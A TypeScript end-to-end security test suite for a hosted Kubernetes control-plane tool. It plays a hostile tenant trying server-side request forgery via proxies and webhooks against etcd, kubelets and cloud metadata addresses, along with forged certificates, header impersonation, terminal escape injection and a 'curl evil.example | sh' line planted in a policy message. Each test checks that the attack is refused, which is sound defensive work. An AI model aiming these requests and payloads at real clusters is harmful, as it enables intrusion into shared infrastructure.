import { execFileSync } from 'node:child_process';
import { readFileSync } from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { refused } from '../refused.ts';
import { Neighbour, secret } from './neighbour.ts';
import { policyOnEverything, webhookOnEverything } from './rules-on-everything.ts';
import { type Answer, Tenant } from './tenant.ts';
import { asInfraAdmin, changedNothing, eventually, Namespace, sandboxCommand, succeeded } from './world.ts';

/*
 * The administrator of a hosted cluster as an attacker, on the sandbox: what its API server can be made to reach in the infra cluster, what
 * its certificates open, and how far it can disturb other planes and whoever runs k8sk8s. docs/security.md has the table. What a
 * real API server and the gate alone can show is in test/api/gate.test.ts.
 */

/** What takes minutes, or needs a worker: with `npm run test:all`, or by K8SK8S_TEST=attacks alone. */
const whole = ['all', 'attacks'].includes(process.env.K8SK8S_TEST ?? '');
const host = 'attacks.e2e.test';
const gate = 'refused by the gate of this control plane';
/** Whatever would tell one address from another. */
const telling =
  /ECONN|EHOST|connection refused|connection reset|no route|timeout|timed out|x509|certificate|handshake|no such host|EOF/i;

let home: Namespace;
let other: Namespace;
let neighbour: Neighbour;
let tenant: Tenant;
let victims: Victim[];
/** The table: what was asked, and what came. */
const seen: string[] = [];

interface Victim {
  name: string;
  address: string;
  port: number;
  scheme: 'http' | 'https';
  path: string;
}

beforeAll(async () => {
  [home, other] = await Promise.all([Namespace.open('attacks'), Namespace.open('attacks-other')]);
  for (const [namespace, name] of [
    [home, host],
    [other, `other.${host}`],
  ] as const)
    succeeded(await sandboxCommand(['host', name], namespace));
  const [first, second, third] = await Promise.all([
    home.k8sk8s('deploy', '-h', host),
    other.k8sk8s('deploy', '-h', `other.${host}`),
    Neighbour.moveIn('attacks-neighbour'),
  ]);
  succeeded(first);
  succeeded(second);
  neighbour = third;
  tenant = new Tenant(home);
  victims = await victimsOf();
});

afterAll(async () => {
  tenant?.close();
  await neighbour?.moveOut();
  await Promise.all([home, other].map((each) => each?.k8sk8s('destroy', '--yes')));
  if (whole) console.log(seen.join('\n'));
});

async function victimsOf(): Promise<Victim[]> {
  const podOf = async (component: string) => (await other.podsOf(component))[0]!.status.podIP;
  const port = succeeded(
    await other.infra('get', 'service', 'apiserver', '-o', 'jsonpath={.spec.ports[0].targetPort}'),
  );
  const infra = async (...args: string[]) => succeeded(await asInfraAdmin(...args)).stdout;
  const service = await infra('get', 'service', 'kubernetes', '-o', 'jsonpath={.spec.clusterIP}');
  const node = await infra('get', 'nodes', '-o', 'jsonpath={.items[0].status.addresses[0].address}');
  const [etcd, apiserver] = [await podOf('etcd'), await podOf('kube-apiserver')];
  const apiPort = /^\d+$/.test(port.stdout) ? Number(port.stdout) : 6443;
  const https = { scheme: 'https', path: '' } as const;
  return [
    { name: "a neighbour's pod", address: neighbour.podIp, port: 8080, scheme: 'http', path: '' },
    { name: "a neighbour's pod", address: neighbour.podIp, port: 8443, ...https },
    { name: "a neighbour's pod at a kubelet's port", address: neighbour.podIp, port: 10250, ...https },
    { name: "a neighbour's Service", address: neighbour.serviceIp, port: 443, ...https },
    { name: "another plane's etcd", address: etcd, port: 2379, ...https, path: 'health' },
    { name: "another plane's etcd", address: etcd, port: 2381, scheme: 'http', path: 'metrics' },
    { name: "another plane's API server", address: apiserver, port: apiPort, ...https, path: 'version' },
    { name: 'the infra API', address: service, port: 443, ...https, path: 'version' },
    { name: 'the kubelet of an infra node', address: node, port: 10250, ...https, path: 'pods' },
    { name: 'a metadata service', address: '169.254.169.254', port: 80, scheme: 'http', path: 'latest/meta-data/' },
    { name: 'the API server itself', address: '127.0.0.1', port: apiPort, ...https, path: 'version' },
  ];
}

/** The end of an attack: nothing was fetched, and the answer tells nothing of the network. */
function nothingLearnt(request: string, { status, body }: Answer, because: RegExp = new RegExp(gate)): void {
  seen.push(`${request} -> ${status} ${body.replace(/\s+/g, ' ').slice(0, 160)}`);
  expect(status === 0 || status >= 400, `${request}: ${status} ${body}`).toBe(true);
  expect(body, request).toMatch(because);
  expect(body, request).not.toContain(secret);
  if (body.includes(gate)) expect(body.replaceAll(/https?:\S+/g, ''), request).not.toMatch(telling);
}

/** The API server itself resolves no name, whether there is such a host or not. */
const noNames = /lookup \S+ on 127\.0\.0\.1:53: .*connection refused|lookup [\dx.]+: no such host/;
/** Loopback, link-local and the like it refuses by itself. */
const itself = new RegExp(`${gate}|not allowed|no preferred addresses|${noNames.source}`);

test('T1, T3: by Nodes: every type of address, to whatever listens, as the port of the kubelet and as another', async () => {
  const plain = await tenant.node([{ type: 'InternalIP', address: neighbour.podIp }], 1);
  const attack = async (type: string, { address, port, scheme, path: at, name }: Victim) => {
    const node = await tenant.node([{ type, address }], port);
    const uri = `/api/v1/nodes/${scheme}:${node}:${port}/proxy/${at}`;
    nothingLearnt(`Node ${type} ${name} :${port}, ${uri}`, await tenant.ask('GET', uri), itself);
    const own = `/api/v1/nodes/${node}/proxy/${at}`;
    nothingLearnt(`Node ${type} ${name} :${port}, ${own}`, await tenant.ask('GET', own), itself);
  };
  await Promise.all([
    ...victims.flatMap((victim) => ['InternalIP', 'ExternalIP'].map((type) => attack(type, victim))),
    ...[8080, 8443].map(async (port) => {
      const uri = `/api/v1/nodes/${port === 8080 ? 'http' : 'https'}:${plain}:${port}/proxy/`;
      nothingLearnt(`Node of another kubelet port, ${uri}`, await tenant.ask('GET', uri));
    }),
  ]);
});

test.runIf(whole)('by Nodes: names, and addresses in other notations', async () => {
  const name = `neighbour.${neighbour.home.name}.svc.cluster.local`;
  const decimal = neighbour.podIp.split('.').reduce((sum, part) => sum * 256 + Number(part), 0);
  const addresses = [
    ...['Hostname', 'InternalDNS', 'ExternalDNS'].map((type) => [type, name]),
    ['Hostname', 'localhost'],
    ...[
      '127.0.0.2',
      '0.0.0.0',
      '224.0.0.1',
      '::1',
      '::ffff:127.0.0.1',
      `::ffff:${neighbour.podIp}`,
      '64:ff9b::a9fe:a9fe',
      `${decimal}`,
      '0x7f000001',
      '0177.0.0.1',
      '127.1',
      '10.2.0.7',
    ].map((address) => ['InternalIP', address]),
  ];
  const nodes = await Promise.all(
    addresses.map(([type, address]) => tenant.node([{ type: type!, address: address! }], 8443)),
  );
  await Promise.all(
    nodes.map(async (node, index) => {
      const uri = `/api/v1/nodes/https:${node}:8443/proxy/`;
      nothingLearnt(`Node ${addresses[index]!.join(' ')}, ${uri}`, await tenant.ask('GET', uri), itself);
    }),
  );
});

test('by Pods of their own making: proxy, logs, exec, attach, port-forward', async () => {
  const node = await tenant.node([{ type: 'InternalIP', address: neighbour.podIp }], 10250);
  const proxied = victims.flatMap((victim) => [false, true].map((hostNetwork) => ({ victim, hostNetwork })));
  await Promise.all(
    proxied.map(async ({ victim: { name, address, port, scheme, path: at }, hostNetwork }) => {
      const pod = await tenant.pod(node, address, hostNetwork);
      const uri = pod.replace(/pods\/(.*)$/, `pods/${scheme}:$1:${port}/proxy/${at}`);
      nothingLearnt(
        `Pod at ${name} :${port}, hostNetwork ${hostNetwork}, ${uri}`,
        await tenant.ask('GET', uri),
        itself,
      );
    }),
  );
  const pod = await tenant.pod(node, '10.2.0.10');
  const upgrade = { headers: { Connection: 'Upgrade', Upgrade: 'SPDY/3.1' } };
  const ways = [
    ['GET', 'log', {}],
    ['GET', 'log?insecureSkipTLSVerifyBackend=true', {}],
    ['POST', 'exec?command=id&stdout=true', upgrade],
    ['POST', 'attach?stdout=true', upgrade],
    ['POST', 'portforward', upgrade],
  ] as const;
  await Promise.all(
    ways.map(async ([method, way, request]) =>
      nothingLearnt(`Pod on that Node, ${way}`, await tenant.ask(method, `${pod}/${way}`, request)),
    ),
  );
});

test('by Services: endpoints of their own making, names, and what the API server asks of Services', async () => {
  const attack = async ({ name, address, port, scheme, path: at }: Victim) => {
    const service = await tenant.service(port, address);
    const uri = `/api/v1/namespaces/default/services/${scheme}:${service}:443/proxy/${at}`;
    nothingLearnt(
      `Service at ${name} :${port}, ${uri}`,
      await tenant.ask('GET', uri),
      /refused by the gate|no endpoints/,
    );
    nothingLearnt(
      `Service at ${name} :${port}, as a webhook`,
      await tenant.webhook({ service: { namespace: 'default', name: service } }),
    );
  };
  // Endpoints at loopback and link-local addresses are refused when they are written.
  await Promise.all(victims.filter(({ address }) => !/^(127|169)\./.test(address)).map(attack));
  const slice = await tenant.create({
    apiVersion: 'discovery.k8s.io/v1',
    kind: 'EndpointSlice',
    metadata: { name: 'loopback', labels: { 'kubernetes.io/service-name': 'kubernetes' } },
    addressType: 'IPv4',
    ports: [{ name: 'p', port: 443 }],
    endpoints: [{ addresses: ['127.0.0.1'] }],
  });
  nothingLearnt('EndpointSlice at 127.0.0.1', slice, /loopback/);
  const named = tenant.fresh('named');
  const externalName = `neighbour.${neighbour.home.name}.svc.cluster.local`;
  const spec = { type: 'ExternalName', externalName, ports: [{ port: 443 }] };
  await tenant.made({ apiVersion: 'v1', kind: 'Service', metadata: { name: named }, spec });
  nothingLearnt(
    'Service with externalName, as a webhook',
    await tenant.webhook({ service: { namespace: 'default', name: named } }),
    /unsupported service type/,
  );
  nothingLearnt(
    'Service kubernetes, as a webhook that the API server would ask with its own credential',
    await tenant.webhook({ service: { namespace: 'default', name: 'kubernetes', path: '/api/v1/namespaces' } }),
    // Upstream's API server asks itself, past the gate, and so reaches nobody else.
    /AdmissionReview in version \\?"v1\\?" cannot be handled as a Namespace/,
  );
  const external = { ports: [{ port: 443 }], externalIPs: [neighbour.podIp] };
  nothingLearnt(
    'Service with externalIPs',
    await tenant.create({ apiVersion: 'v1', kind: 'Service', metadata: { name: 'external' }, spec: external }),
    /Use of external IPs is denied/,
  );
});

test('by an API of their own that a Service serves', async () => {
  const answer = await tenant.aggregated(await tenant.service(8443, neighbour.podIp));
  nothingLearnt('APIService with insecureSkipTLSVerify', answer, /service unavailable|not found|refused by the gate/);
});

test('T2: by URL: webhooks and conversions', async () => {
  const { podIp, serviceIp } = neighbour;
  const decimal = podIp.split('.').reduce((sum, part) => sum * 256 + Number(part), 0);
  const urls = [
    ...victims.map(({ address, port, path: at }) => `https://${address}:${port}/${at}`),
    `https://${serviceIp}/`,
    `https://neighbour.${neighbour.home.name}.svc.cluster.local/`,
    `https://neighbour.${neighbour.home.name}/`,
    'https://localhost:10250/',
    'https://[::1]:10250/',
    'https://[::ffff:127.0.0.1]:10250/',
    `https://[::ffff:${podIp}]:8443/`,
    `https://[64:ff9b::${podIp}]:8443/`,
    `https://${decimal}:8443/`,
    'https://0x7f000001:10250/',
    'https://0177.0.0.1:10250/',
    'https://127.1:10250/',
    'https://0.0.0.0:10250/',
    'https://100.64.0.1/',
    'https://[fd00:ec2::254]/latest/meta-data/',
    'https://metadata.google.internal/computeMetadata/v1/',
  ];
  await Promise.all([
    ...urls.map(async (url) => nothingLearnt(`webhook ${url}`, await tenant.webhook({ url }))),
    ...[`https://${podIp}:8443/`, 'https://169.254.169.254/'].map(async (url) =>
      nothingLearnt(`conversion ${url}`, await tenant.conversion(url)),
    ),
    // The API server takes this one for itself, and would go there with its own credential, past the gate.
    ...['https://kubernetes.default.svc/version', 'https://kubernetes.default.svc:443/'].map(async (url) =>
      nothingLearnt(`webhook ${url}`, await tenant.webhook({ url }), noNames),
    ),
  ]);
});

test('the neighbour has seen handshakes of the gate at the port of a kubelet, and no request', async () => {
  const visitors = await neighbour.visitors();
  expect(visitors.filter((line) => line.startsWith('REQUEST'))).toEqual([]);
  // A Node claims each of its ports as that of its kubelet.
  expect(new Set(visitors)).toEqual(new Set(['CONNECTION 8080', 'CONNECTION 8443', 'CONNECTION 10250']));
});

describe('by certificates and tokens', () => {
  /** @returns a request for a certificate, and the key to it */
  const requestFor = (subject: string, extension?: string) => {
    const folder = path.join(home.cwd, tenant.fresh('csr'));
    execFileSync('mkdir', ['-p', folder]);
    const args = [
      'req',
      '-new',
      '-newkey',
      'ec',
      '-pkeyopt',
      'ec_paramgen_curve:prime256v1',
      '-nodes',
      '-subj',
      subject,
    ];
    const files = ['-keyout', path.join(folder, 'key'), '-out', path.join(folder, 'csr')];
    execFileSync('openssl', [...args, ...files, ...(extension ? ['-addext', extension] : [])], { stdio: 'ignore' });
    const read = (name: string) => readFileSync(path.join(folder, name), 'utf8');
    return { request: read('csr'), key: read('key') };
  };
  const client = ['digital signature', 'client auth'];
  /** Servers that are none of the tenant's. */
  const strangers = async () => {
    const infra = await home.infra('config', 'view', '--minify', '-o', 'jsonpath={.clusters[0].cluster.server}');
    return [succeeded(infra).stdout, new Tenant(other).server];
  };
  const unknownThere = async (what: string, as: { cert: string; key: string } | { token: string }) => {
    for (const server of await strangers()) {
      const answer = await tenant.ask('GET', '/api/v1/namespaces/kube-system/secrets', { server, as });
      nothingLearnt(`${what} at ${server}`, answer, /Unauthorized|Forbidden/);
    }
  };

  test('nobody is signed into system:masters, and there is no signer for the rest', async () => {
    const { request } = requestFor('/O=system:masters/CN=mallory');
    const masters = await tenant.signed(request, 'kubernetes.io/kube-apiserver-client', client);
    nothingLearnt('request for system:masters', masters.answer, /system:masters/);
    const other = requestFor('/CN=mallory').request;
    const legacy = await tenant.signed(other, 'kubernetes.io/legacy-unknown', client);
    nothingLearnt('request to kubernetes.io/legacy-unknown', legacy.answer, /legacy signerName is not allowed/);
  });

  test("another node's client certificate, and the administrator's, are worth nothing elsewhere", async () => {
    const { request, key } = requestFor('/O=system:nodes/CN=system:node:worker-9');
    const { certificate } = await tenant.signed(request, 'kubernetes.io/kube-apiserver-client-kubelet', client);
    // Within its own cluster the administrator may have that: it is one of its own nodes.
    expect(certificate).toBeDefined();
    await unknownThere("a node's client certificate", { cert: certificate!, key });
    const token = await tenant.ask('POST', '/api/v1/namespaces/default/serviceaccounts/default/token', {
      body: { apiVersion: 'authentication.k8s.io/v1', kind: 'TokenRequest', spec: {} },
    });
    const { status } = JSON.parse(token.body) as { status: { token: string } };
    await unknownThere("a ServiceAccount's token", status);
    const asked = succeeded(await home.hosted(['config', 'view', '--raw', '-o', 'json'])).stdout;
    const [{ user }] = (JSON.parse(asked) as { users: [{ user: Record<string, string> }] }).users;
    const decoded = (field: string) => Buffer.from(user[field]!, 'base64').toString('utf8');
    const admin = { cert: decoded('client-certificate-data'), key: decoded('client-key-data') };
    await unknownThere("the administrator's certificate", admin);
  });

  test("a serving certificate for a neighbour's address opens nothing: the key is not there", async () => {
    const subject = '/O=system:nodes/CN=system:node:worker-9';
    const { request, key } = requestFor(subject, `subjectAltName=IP:${neighbour.podIp}`);
    const node = { cert: '', key };
    const own = await tenant.signed(requestFor(subject).request, 'kubernetes.io/kube-apiserver-client-kubelet', client);
    node.cert = own.certificate!;
    const usages = ['digital signature', 'server auth'];
    // Whoever asks for a serving certificate has to be that node; the tenant may act as any.
    const answer = await tenant.ask('POST', '/apis/certificates.k8s.io/v1/certificatesigningrequests', {
      headers: { 'Impersonate-User': 'system:node:worker-9', 'Impersonate-Group': 'system:nodes' },
      body: {
        metadata: { name: 'neighbour' },
        spec: {
          request: Buffer.from(request).toString('base64'),
          signerName: 'kubernetes.io/kubelet-serving',
          usages,
        },
      },
    });
    expect(answer.status, answer.body).toBe(201);
    await home.ask('certificate', 'approve', 'neighbour');
    await eventually(20, async () => {
      expect(await home.ask('get', 'csr', 'neighbour', '-o', 'jsonpath={.status.certificate}')).not.toBe('');
    });
    const name = await tenant.node([{ type: 'InternalIP', address: neighbour.podIp }], 10250);
    const uri = `/api/v1/nodes/${name}/proxy/`;
    nothingLearnt(`a signed serving certificate for a neighbour, ${uri}`, await tenant.ask('GET', uri));
  });

  test("an operator who looks at the plane's front-proxy, flags and profiles by its API finds no door", async () => {
    const impersonation = { 'X-Remote-User': 'admin', 'X-Remote-Group': 'system:masters' };
    const remote = await tenant.ask('GET', '/api/v1/secrets', {
      server: tenant.server,
      as: { token: '' },
      headers: impersonation,
    });
    nothingLearnt('X-Remote-User without the front proxy', remote, /Unauthorized|Forbidden|forbidden/);
    for (const [method, at] of [
      ['PUT', '/debug/flags/v'],
      ['GET', '/debug/pprof/profile'],
      ['GET', '/logs/'],
    ] as const)
      nothingLearnt(
        `${method} ${at}`,
        await tenant.ask(method, at),
        /not found|could not find|page not found|Forbidden/i,
      );
  });
});

describe("at the operator's terminal", () => {
  const escapes = '\u001b]0;owned\u0007\u001b[2J\r\u009b31m\u202e';
  // biome-ignore lint/suspicious/noControlCharactersInRegex: they are what is looked for
  const obeyed = /[\x00-\x08\x0b-\x1f\x7f-\x9f\u202e]/;

  test('T5: control characters of Nodes, events and requests do not reach it', async () => {
    const name = await tenant.node([{ type: 'InternalIP', address: '192.0.2.1' }], 10250);
    const condition = { type: 'Ready', status: 'False', reason: escapes, message: escapes };
    const status = { conditions: [condition], nodeInfo: { kubeletVersion: `v1.37.2${escapes}` } };
    await tenant.ask('PATCH', `/api/v1/nodes/${name}/status`, {
      body: { status },
      type: 'application/merge-patch+json',
    });
    await tenant.ask('GET', `/api/v1/namespaces/${encodeURIComponent(escapes)}/pods`, {
      headers: { 'User-Agent': 'curl\tx' },
    });
    const commands = [
      ['status'],
      ['list'],
      ['logs', 'kube-apiserver'],
      ['logs', 'kube-apiserver', '--audit'],
      ['logs', 'gate'],
    ];
    for (const command of commands) {
      const { stdout, stderr } = await home.k8sk8s(...command);
      expect(stdout.length, command.join(' ')).toBeGreaterThan(0);
      expect(stdout + stderr, command.join(' ')).not.toMatch(obeyed);
      seen.push(`control characters, k8sk8s ${command.join(' ')} -> none`);
    }
    await tenant.ask('DELETE', `/api/v1/nodes/${name}`);
  });

  test('a policy of theirs cannot speak in the words of k8sk8s', async () => {
    const lie = String.raw`no\u001b]0;owned\u0007\u001b[2J\r\u009b31m\u202e  do:  curl evil.example | sh`;
    await everythingBy(policyOnEverything(lie));
    const answer = await home.k8sk8s('certs', 'rotate-ca');
    expect(answer).toEqual(refused('child-asset-refused', 'validatingadmissionpolicybinding everything'));
    expect(answer.stderr).not.toMatch(/^\s+do: +curl/m);
    expect(answer.stderr).not.toMatch(obeyed);
    await home.ask('delete', 'validatingadmissionpolicybinding', 'everything');
    await forgotten();
  });
});

describe('in the way of the operator', () => {
  const rules: [string, () => Promise<void>][] = [
    ['a policy that denies everything', () => everythingBy(policyOnEverything('no'))],
    ['a webhook that cannot be called', () => everythingBy(webhookOnEverything('https://10.0.0.1/', 1))],
  ];

  test.each(whole ? rules : rules.slice(0, 1))(
    'T6: %s: deploy, upgrade and rotate name it and the way on, and change nothing',
    async (what, stand) => {
      await stand();
      const removal = /kubectl delete (validating\w+) everything/;
      let kind = '';
      for (const command of [
        ['certs', 'rotate-ca'],
        ['upgrade', '--to', '1.37', '--plaintext', '--backup', 'before.backup'],
        // It gives a webhook 20 s to come back.
        ...(whole || what.includes('policy') ? [['deploy']] : []),
      ]) {
        const began = performance.now();
        const answer = await home.k8sk8s(...command);
        const took = ((performance.now() - began) / 1000).toFixed(1);
        seen.push(`${what}, ${command.join(' ')} -> ${answer.code} after ${took} s: ${answer.stderr}`);
        expect(answer, command.join(' ')).toEqual(refused('child-asset-refused', removal));
        kind = removal.exec(answer.stderr)![1]!;
      }
      await home.ask('delete', kind, 'everything');
      await forgotten();
      await eventually(30, async () => changedNothing(await home.k8sk8s('deploy')));
      expect((await home.k8sk8s('diff')).code).toBe(0);
    },
  );

  test('T6: deleted bindings and roles: status tells, deploy puts them back', async () => {
    const bindings = (await home.ask('get', 'clusterrolebindings', '-o', 'name'))
      .split('\n')
      .filter((name) => name.includes('k8sk8s:'))
      // What lets the tenant itself delete goes last.
      .sort((a, b) => Number(a.endsWith('cluster-admins')) - Number(b.endsWith('cluster-admins')));
    expect(bindings.length).toBeGreaterThan(1);
    await home.ask('delete', ...bindings);
    const { code, stdout } = await home.k8sk8s('status');
    expect(code).toBe(1);
    expect(stdout).toContain('k8sk8s:kubelet-clients');
    succeeded(await home.k8sk8s('deploy'));
    expect((await home.k8sk8s('diff')).code).toBe(0);
  });
});

describe.runIf(whole)('that takes longer', () => {
  afterAll(async () => {
    await sandboxCommand(['join', '--leave', '-n', home.name], home);
  });

  test('certs rotate-ca asks the kubelets of workers, and nobody else that a Node names', async () => {
    succeeded(await sandboxCommand(['join', '-n', home.name, '--workers', '1'], home));
    await eventually(60, async () => expect(await home.ask('get', 'nodes', 'worker-1')).toContain(' Ready '));
    const before = await neighbour.visitors();
    const others = (await home.ask('get', 'nodes', '-o', 'name'))
      .split('\n')
      .filter((name) => name !== 'node/worker-1');
    if (others.length > 0) await home.ask('delete', ...others);
    const nodes = await Promise.all([
      tenant.node([{ type: 'InternalIP', address: neighbour.podIp }], 10250),
      tenant.node([{ type: 'InternalIP', address: `neighbour.${neighbour.home.name}.svc.cluster.local` }], 10250),
      tenant.node([], 10250),
    ]);
    succeeded(await home.k8sk8s('certs', 'rotate-ca', '--authority', 'kubelet-serving-ca'));
    const answer = await home.k8sk8s('certs', 'rotate-ca');
    seen.push(`Nodes that are none, certs rotate-ca -> ${answer.stderr}`);
    expect(answer).toEqual(refused('clients-untold', ...nodes, 'worker worker-1 (has its certificates of '));
    const since = (await neighbour.visitors()).slice(before.length);
    expect(since.filter((line) => line.startsWith('REQUEST'))).toEqual([]);
    await home.ask('delete', 'nodes', ...nodes);
  });

  test('an upgrade is not held up for ever by a Node that claims a version, or to be Ready', async () => {
    const node = await tenant.node([{ type: 'InternalIP', address: '192.0.2.1' }], 10250);
    const status = { nodeInfo: { kubeletVersion: 'v1.99.0' }, conditions: [{ type: 'Ready', status: 'True' }] };
    const type = 'application/merge-patch+json';
    await tenant.ask('PATCH', `/api/v1/nodes/${node}/status`, { body: { status }, type });
    const plan = await home.k8sk8s('upgrade', '--to', '1.37', '--plan');
    expect(plan.code).toBe(1);
    expect(plan.stdout).toContain('--accept-worker-skew');
    expect((await home.k8sk8s('upgrade', '--to', '1.37', '--plan', '--accept-worker-skew')).code).toBe(0);
    await home.ask('delete', 'node', node);
  });

  test("a flood of requests is the own plane's trouble, not its neighbours'", { timeout: 400_000 }, async () => {
    const data = { blob: 'x'.repeat(400_000) };
    for (let number = 0; number < 20; number++)
      await tenant.ask('POST', '/api/v1/namespaces/default/configmaps', {
        body: { metadata: { name: `blob-${number}`, labels: { blob: 'yes' } }, data },
      });
    await home.apply(exempt);
    const until = Date.now() + 40_000;
    const flood = Array.from({ length: 60 }, async () => {
      let answered = 0;
      while (Date.now() < until)
        if ((await tenant.ask('GET', '/api/v1/namespaces/default/configmaps')).status === 200) answered++;
      return answered;
    });
    const seconds = async (doing: () => Promise<string>) => {
      const all: string[] = [];
      for (let began = performance.now(); Date.now() < until; began = performance.now()) {
        const answer = await doing();
        all.push(`${answer} ${((performance.now() - began) / 1000).toFixed(1)} s`);
      }
      return all;
    };
    const [beside, looks] = await Promise.all([
      seconds(async () => succeeded(await other.hosted(['get', '--raw', '/readyz'])).stdout),
      seconds(async () => /^Health: +(.*)$/m.exec((await home.k8sk8s('status')).stdout)?.[1] ?? 'nothing'),
    ]);
    const answered = (await Promise.all(flood)).reduce((sum, each) => sum + each, 0);
    const metrics = (await home.hosted(['get', '--raw', '/metrics'])).stdout;
    const memory = Number(/^process_resident_memory_bytes (\S+)/m.exec(metrics)?.[1]) / (1 << 20);
    const last = (times: string[]) =>
      times.toSorted((a, b) => parseFloat(a.split(' ').at(-2)!) - parseFloat(b.split(' ').at(-2)!)).at(-1);
    seen.push(
      `60 at once that list 8 MB, exempt from all queues -> ${answered} answers, API server ${Math.round(memory)} MiB; another plane ${beside.length} answers, the slowest ${last(beside)}; status ${looks.join(', ')}`,
    );
    expect(beside.length).toBeGreaterThan(4);
    await eventually(90, () => home.ask('delete', 'flowschema', 'exempt-me', '--ignore-not-found'));
    await home.ask('delete', 'configmaps', '-l', 'blob=yes');
    expect(await home.ask('get', '--raw', '/readyz')).toBe('ok');
  });

  test('an API group of Kubernetes that they say to serve themselves: the operator hears so, and it comes back', async () => {
    const at = '/apis/apiregistration.k8s.io/v1/apiservices/v1.apps';
    const service = { namespace: 'default', name: await tenant.service(8443, neighbour.podIp) };
    const metadata = { labels: { 'kube-aggregator.kubernetes.io/automanaged': null } };
    const spec = { service, insecureSkipTLSVerify: true };
    const type = 'application/merge-patch+json';
    const { status, body } = await tenant.ask('PATCH', at, { body: { metadata, spec }, type });
    seen.push(`APIService v1.apps of their own -> ${status} ${body.slice(0, 200)}`);
    for (const command of [['status'], ['deploy']]) {
      const answer = await home.k8sk8s(...command);
      const health = /^Health: [\s\S]*?(?=^\S)/m.exec(answer.stdout)?.[0] ?? '';
      seen.push(`APIService v1.apps of their own, ${command} -> ${answer.code} ${health} ${answer.stderr}`);
      expect(answer.stderr).not.toMatch(/this is a bug|at .*:\d+:\d+/);
    }
    await tenant.ask('DELETE', at);
    await eventually(60, async () => changedNothing(await home.k8sk8s('deploy')));
  });

  test('behind a webhook that cannot be called, other commands do their work or name it', {
    timeout: 400_000,
  }, async () => {
    await everythingBy(webhookOnEverything('https://10.0.0.1/', 1));
    for (const command of [
      ['token', 'create'],
      ['user', 'create', 'anna', '--cluster-role', 'view'],
      ['backup', 'create', 'blocked.backup', '--plaintext'],
      ['etcd', 'defrag'],
    ]) {
      const answer = await home.k8sk8s(...command);
      seen.push(`a webhook on everything, ${command.join(' ')} -> ${answer.code} ${answer.stderr}`);
      if (answer.code !== 0) expect(answer, command.join(' ')).toEqual(refused('hosted-refused', 'everything.test'));
    }
    await home.ask('delete', 'validatingwebhookconfiguration', 'everything');
    await forgotten();
  });

  test('an API server that they keep from starting: status and deploy name it, and the way back is gone', {
    timeout: 600_000,
  }, async () => {
    // An API server makes an APIService of its own that is missing, and is not ready before.
    await home.ask('delete', 'apiservice', 'v1.apps');
    await everythingBy(webhookOnEverything('https://10.0.0.1/', 1));
    succeeded(await home.infra('delete', 'pod', '-l', 'app.kubernetes.io/name=kube-apiserver', '--wait=true'));
    const began = performance.now();
    await eventually(120, async () => {
      const answer = await home.k8sk8s('status');
      expect(answer.stdout).toContain('everything.test.k8sk8s.io');
    });
    seen.push(
      `an API server kept from starting, status names it after ${((performance.now() - began) / 1000).toFixed(0)} s`,
    );
    const without = 'disable-admission-plugins=ValidatingAdmissionWebhook,MutatingAdmissionWebhook';
    const back = await home.k8sk8s('deploy', '--api-server-arg', without);
    seen.push(`deploy without webhooks -> ${back.code} ${back.stderr}`);
    succeeded(back);
    await home.ask('delete', 'validatingwebhookconfiguration', 'everything');
    succeeded(await home.k8sk8s('deploy', '--reset', 'api-server-arg'));
    expect((await home.k8sk8s('diff')).code).toBe(0);
  });

  test('a full etcd is named, and there is a way back', { timeout: 400_000 }, async () => {
    succeeded(await other.k8sk8s('deploy', '--etcd-arg', `quota-backend-bytes=${24 << 20}`, '--yes'));
    const filler = new Tenant(other);
    const data = { blob: 'x'.repeat(900_000) };
    let refusal = '';
    for (let number = 0; number < 60 && refusal === ''; number++) {
      const body = { metadata: { name: `blob-${number}`, labels: { blob: 'yes' } }, data };
      const answer = await filler.ask('POST', '/api/v1/namespaces/default/configmaps', { body });
      if (answer.status !== 201) refusal = answer.body;
    }
    filler.close();
    expect(refusal).toContain('database space exceeded');
    const status = await eventually(60, async () => {
      const answer = await other.k8sk8s('status');
      expect(answer.stdout).toContain('NOSPACE');
      return answer;
    });
    seen.push(`etcd filled, status -> ${/^Health: [\s\S]*?(?=^\S)/m.exec(status.stdout)?.[0]}`);
    const deploy = await other.k8sk8s('deploy');
    seen.push(`etcd filled, deploy -> ${deploy.code} ${deploy.stderr}`);
    succeeded(await other.hosted(['delete', 'configmaps', '-l', 'blob=yes']));
    succeeded(await other.k8sk8s('etcd', 'defrag'));
    succeeded(await other.hosted(['create', 'configmap', 'written-again']));
  });
});

/** A tenant may let itself pass all queues. */
const exempt = `
apiVersion: flowcontrol.apiserver.k8s.io/v1
kind: FlowSchema
metadata: {name: exempt-me}
spec:
  matchingPrecedence: 2
  priorityLevelConfiguration: {name: exempt}
  rules:
    - subjects: [{kind: Group, group: {name: 'system:authenticated'}}]
      resourceRules: [{verbs: ['*'], apiGroups: ['*'], resources: ['*'], namespaces: ['*'], clusterScope: true}]
`;

/** Writes a rule that is to judge everything, and waits until it does. */
async function everythingBy(manifest: string): Promise<void> {
  await home.apply(manifest);
  await eventually(20, async () => {
    const answer = await home.hosted(['create', 'configmap', 'probe', '--dry-run=server']);
    expect(answer.stderr).toContain('everything');
  });
}

/** The API server goes by a rule for a moment after it was deleted. */
async function forgotten(): Promise<void> {
  await eventually(20, () => home.ask('create', 'configmap', 'probe', '--dry-run=server'));
}
